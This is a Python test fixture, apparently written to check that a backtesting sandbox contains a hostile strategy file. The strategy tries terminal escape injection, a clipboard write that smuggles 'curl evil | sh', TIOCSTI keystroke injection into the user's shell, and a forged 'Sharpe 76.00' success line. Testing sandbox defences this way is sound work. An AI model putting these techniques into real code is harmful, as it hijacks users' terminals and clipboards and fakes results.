"""Write escape sequences to stdout, stderr, ``/dev/tty`` and through ``TIOCSTI``.

Attack (own): ``print`` and ``os.write(1|2, ...)`` of clear-screen/title/clipboard sequences and
a fake success line, ``open('/dev/tty')``, and ``ioctl(0, TIOCSTI, c)`` to type a command into
the user's shell. Returns "always long".
Stopped by: descriptors 0-2 of the strategy process are /dev/null; Landlock refuses /dev/tty;
seccomp refuses TIOCSTI. Nothing reaches the CLI's output.
"""
# honest-positions: long

import contextlib
import fcntl
import os
import sys
import termios

import numpy as np
import pandas as pd

PARAMETERS = {}

EVIL = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\nok   fake: Sharpe 76.00\n"


def generate_positions(data, **params):
    print(EVIL)
    sys.stderr.write(EVIL)
    for fd in (0, 1, 2):
        with contextlib.suppress(OSError):
            os.write(fd, EVIL.encode())
        try:
            for ch in b"touch /tmp/hostile-terminal_injection\n":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(EVIL)
    except OSError:
        pass
    return pd.Series(np.ones(len(data)), index=data.index)
